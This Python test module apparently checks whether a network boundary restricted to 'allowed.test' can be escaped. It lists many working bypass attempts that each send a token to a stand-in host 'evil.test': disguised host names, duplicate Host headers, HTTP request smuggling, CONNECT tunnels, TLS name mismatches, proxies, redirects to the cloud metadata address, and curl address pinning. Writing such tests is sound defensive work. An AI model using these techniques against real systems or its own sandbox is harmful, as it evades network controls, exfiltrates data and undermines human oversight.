"""Ways out by what a request says: another host than where it goes, two meanings, a second request hidden in the first."""

from tests.boundary.wayout.attempt import Scene, attempt, get, reach, run, say, tls


def _told(name: str, host: str) -> None:
    @attempt(f"to the allowed host, for {name}")
    def _(scene: Scene) -> object:
        said = say(reach("allowed.test", 80), get(host, f"/{scene.token}"))
        return said + say(tls(reach("allowed.test", 443), "allowed.test"), get(host, f"/{scene.token}"))


for _name, _host in (
    ("another host", "evil.test"),
    ("another host in capitals", "EVIL.TEST"),
    ("another host with a dot at its end", "evil.test."),
    ("another host with a port", "evil.test:443"),
    ("a name that only begins like it", "allowed.test.evil.test"),
    ("a name that only ends like it", "evilallowed.test"),
    ("a name after user information", "allowed.test@evil.test"),
    ("a name after a port and user information", "allowed.test:80@evil.test"),
    ("a name before a fragment", "evil.test#allowed.test"),
    ("a name before a query", "evil.test?allowed.test"),
    ("a name before a slash", "evil.test/allowed.test"),
    ("a name before a backslash", "evil.test\\allowed.test"),
    ("a name before a null byte", "evil.test\0.allowed.test"),
    ("a name after a null byte", "allowed.test\0.evil.test"),
    ("two names with a comma", "allowed.test, evil.test"),
    ("two names with a space", "evil.test allowed.test"),
    ("a name with a tab", "evil.test\tallowed.test"),
    ("a name with full-width dots", "evil\uff0etest".encode().decode("latin-1")),
    ("a name with full-width letters", "\uff45vil.test".encode().decode("latin-1")),
    ("a name with a look-alike letter", "\u0430llowed.test".encode().decode("latin-1")),
    ("a look-alike name in ASCII", "xn--llowed-3ve.test"),
    ("a percent-encoded name", "%65vil.test"),
    ("a name with a soft hyphen", "e\xadvil.test".encode().decode("latin-1")),
    ("an address", "203.0.113.102"),
    ("an address in brackets", "[2001:db8::66]"),
    ("the metadata service", "169.254.169.254"),
    ("the host's loopback", "127.0.0.1:11434"),
    ("nobody", ""),
):
    _told(_name, _host)


def _meant(name: str, *lines: str, body: str = "") -> None:
    @attempt(name)
    def _(scene: Scene) -> object:
        text = (
            "\r\n".join(lines).replace("TOKEN", scene.token) + "\r\n\r\n" + body.replace("TOKEN", scene.token)
        )
        return say(reach("allowed.test", 80), text.encode("latin-1"), turns=2)


_INNER = "GET /TOKEN HTTP/1.1\r\nHost: evil.test\r\n\r\n"
_meant("two hosts, the other one last", "GET /TOKEN HTTP/1.1", "Host: allowed.test", "Host: evil.test")
_meant("two hosts, the other one first", "GET /TOKEN HTTP/1.1", "Host: evil.test", "Host: allowed.test")
_meant(
    "two hosts, one with a space before its colon",
    "GET /TOKEN HTTP/1.1",
    "Host: allowed.test",
    "Host : evil.test",
)
_meant("a second host on a folded line", "GET /TOKEN HTTP/1.1", "Host: allowed.test", "X: y\nHost: evil.test")
_meant("an absolute form", "GET http://evil.test/TOKEN HTTP/1.1", "Host: allowed.test")
_meant("an absolute form for https", "GET https://evil.test:443/TOKEN HTTP/1.1", "Host: allowed.test")
_meant(
    "an absolute form with user information",
    "GET http://allowed.test@evil.test/TOKEN HTTP/1.1",
    "Host: allowed.test",
)
_meant("an absolute form with an address", "GET http://203.0.113.102/TOKEN HTTP/1.1", "Host: allowed.test")
_meant("an absolute form in old HTTP", "GET http://evil.test/TOKEN HTTP/1.0")
_meant("CONNECT to another host", "CONNECT evil.test:443 HTTP/1.1", "Host: evil.test:443")
_meant(
    "CONNECT to another host under the allowed name", "CONNECT evil.test:443 HTTP/1.1", "Host: allowed.test"
)
_meant("CONNECT to the host's loopback", "CONNECT 127.0.0.1:11434 HTTP/1.1", "Host: allowed.test")
_meant("old HTTP without a host, to the allowed one", "GET /TOKEN HTTP/1.0")
_meant("a request of HTTP/0.9", "GET /TOKEN")
_meant(
    "a second request after a length and chunks",
    "POST /a HTTP/1.1", "Host: allowed.test", f"Content-Length: {5 + len(_INNER)}", "Transfer-Encoding: chunked",
    body="0\r\n\r\n" + _INNER,
)  # fmt: skip
_meant(
    "a second request behind an unknown coding",
    "POST /a HTTP/1.1", "Host: allowed.test", f"Content-Length: {5 + len(_INNER)}", "Transfer-Encoding: xchunked",
    body="0\r\n\r\n" + _INNER,
)  # fmt: skip
_meant(
    "a second request behind a coding after a bare line end",
    "POST /a HTTP/1.1", "Host: allowed.test", f"Content-Length: {5 + len(_INNER)}", "X: y\nTransfer-Encoding: chunked",
    body="0\r\n\r\n" + _INNER,
)  # fmt: skip
_meant(
    "a second request behind two lengths",
    "POST /a HTTP/1.1", "Host: allowed.test", "Content-Length: 0", f"Content-Length: {len(_INNER)}", body=_INNER,
)  # fmt: skip
_meant(
    "a second request behind a length with a sign",
    "POST /a HTTP/1.1", "Host: allowed.test", "Content-Length: +0", body=_INNER,
)  # fmt: skip
_meant(
    "a second request in the body of a GET without a length",
    "GET /a HTTP/1.1", "Host: allowed.test", body=_INNER,
)  # fmt: skip
_meant("an upgrade to HTTP/2, then another host", "GET /a HTTP/1.1", "Host: allowed.test",
       "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA", body=_INNER)  # fmt: skip
_meant("an upgrade to a WebSocket of another host", "GET /TOKEN HTTP/1.1", "Host: evil.test", "Connection: Upgrade",
       "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")  # fmt: skip


@attempt("a second request on a kept connection")
def _(scene: Scene) -> object:
    link = reach("allowed.test", 80)
    link.sendall(get("allowed.test", "/first"))
    first = link.recv(4000)[:20]
    return first + say(link, get("evil.test", f"/{scene.token}")).encode("latin-1")


@attempt("a second request on a kept connection over TLS")
def _(scene: Scene) -> object:
    link = tls(reach("allowed.test", 443), "allowed.test")
    link.sendall(get("allowed.test", "/first"))
    first = link.recv(4000)[:20]
    return first + say(link, get("evil.test", f"/{scene.token}")).encode("latin-1")


@attempt("the allowed name in the handshake and the request, another address")
def _(scene: Scene) -> object:
    return say(tls(reach(scene.evil4, 443), "allowed.test"), get("allowed.test", f"/{scene.token}"))


@attempt("another name in the handshake, the allowed one in the request")
def _(scene: Scene) -> object:
    return say(tls(reach("allowed.test", 443), "evil.test"), get("allowed.test", f"/{scene.token}"))


@attempt("the allowed name in the handshake, another in the request")
def _(scene: Scene) -> object:
    return say(tls(reach("evil.test", 443), "allowed.test"), get("evil.test", f"/{scene.token}"))


@attempt("no name in the handshake, the allowed one in the request, another address")
def _(scene: Scene) -> object:
    return say(tls(reach(scene.evil6, 443), None), get("allowed.test", f"/{scene.token}"))


@attempt("the allowed name in the request to another address")
def _(scene: Scene) -> object:
    return say(reach(scene.evil4, 80), get("allowed.test", f"/{scene.token}"))


@attempt("old HTTP without a host, to another address")
def _(scene: Scene) -> object:
    return say(reach(scene.evil4, 80), get("", f"/{scene.token}", version="1.0"))


@attempt("a tunnel to the allowed host with another inside")
def _(scene: Scene) -> object:
    link = reach("allowed.test", 3128)
    link.sendall(get("allowed.test:80", "allowed.test:80", method="CONNECT"))
    link.recv(400)
    return say(link, get("evil.test", f"/{scene.token}"))


@attempt("the allowed host as a relay")
def _(scene: Scene) -> object:
    return run(
        "curl", "-k", "-sS", "-m", "1", "-x", "http://allowed.test:8080", f"https://evil.test/{scene.token}"
    )


@attempt("the allowed host as a relay over TLS")
def _(scene: Scene) -> object:
    said = run("curl", "-k", "-sS", "-m", "1", "--proxy-insecure", "-x", "https://allowed.test:443",
               f"https://evil.test/{scene.token}")  # fmt: skip
    return said + run("curl", "-k", "-sS", "-m", "1", "--proxy-insecure", "-x", "https://allowed.test:443",
                      f"http://evil.test/{scene.token}")  # fmt: skip


@attempt("a proxy named in the environment")
def _(scene: Scene) -> object:
    return run("curl", "-sS", "-m", "1", "http://allowed.test/ok", http_proxy="http://relay.test:3128") + run(
        "curl", "-k", "-sS", "-m", "1", "https://allowed.test/ok", HTTPS_PROXY="http://relay.test:3128"
    )


@attempt("a SOCKS proxy")
def _(scene: Scene) -> object:
    return run(
        "curl", "-sS", "-m", "1", "-x", f"socks5h://{scene.evil4}:8080", f"http://evil.test/{scene.token}"
    )


@attempt("a SOCKS greeting to the allowed host")
def _(scene: Scene) -> object:
    return say(reach("allowed.test", 8080), b"\5\1\0" + scene.token.encode() + b"\r\n\r\n")


@attempt("a redirect to another host, followed")
def _(scene: Scene) -> object:
    return run(
        "curl",
        "-k",
        "-sS",
        "-L",
        "-m",
        "2",
        f"https://allowed.test/redirect?to=https://evil.test/{scene.token}",
    )


@attempt("a redirect that keeps the body, followed")
def _(scene: Scene) -> object:
    where = f"https://allowed.test/redirect?status=307&to=http://evil.test/{scene.token}"
    return run("curl", "-k", "-sS", "-L", "-m", "2", "-d", scene.token, where)


@attempt("a redirect to the metadata service, followed")
def _(scene: Scene) -> object:
    return run(
        "curl",
        "-k",
        "-sS",
        "-L",
        "-m",
        "2",
        "https://allowed.test/redirect?to=http://169.254.169.254/latest/",
    )


@attempt("the allowed name pinned to another address")
def _(scene: Scene) -> object:
    return run("curl", "-k", "-sS", "-m", "1", "--resolve", f"allowed.test:443:{scene.evil4}",
               f"https://allowed.test/{scene.token}")  # fmt: skip


@attempt("another name pinned to the allowed address")
def _(scene: Scene) -> object:
    return run("curl", "-k", "-sS", "-m", "1", "--connect-to", "evil.test:443:allowed.test:443",
               f"https://evil.test/{scene.token}")  # fmt: skip
